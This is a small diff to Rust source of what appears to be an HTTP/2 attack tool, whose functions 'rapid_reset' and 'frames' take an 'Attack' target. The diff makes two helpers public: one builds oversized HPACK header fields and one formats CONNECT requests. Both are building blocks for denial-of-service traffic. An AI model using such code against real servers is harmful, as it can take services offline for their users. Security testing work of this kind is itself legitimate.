@@ -130,7 +130,7 @@ pub(super) async fn rapid_reset(attack: Arc<Attack>) -> anyhow::Result<()> {
 
 /// A field with a value of so many bytes, in HPACK's literal form that is added to the table (RFC 7541
 /// section 6.2.1).
-fn field(length: usize) -> Vec<u8> {
+pub(super) fn field(length: usize) -> Vec<u8> {
     let rest = length - 127;
     let length_below = [0x80 | (rest % 128) as u8, 0x80 | (rest / 128 % 128) as u8, (rest / 16_384) as u8];
     [&[0x40, 1, b'x', 0x7f], &length_below[..], &vec![b'v'; length]].concat()
@@ -192,7 +192,7 @@ pub(super) async fn frames(attack: Arc<Attack>) -> anyhow::Result<()> {
     Ok(())
 }
 
-fn connect(target: &str) -> String {
+pub(super) fn connect(target: &str) -> String {
     format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")
 }
 
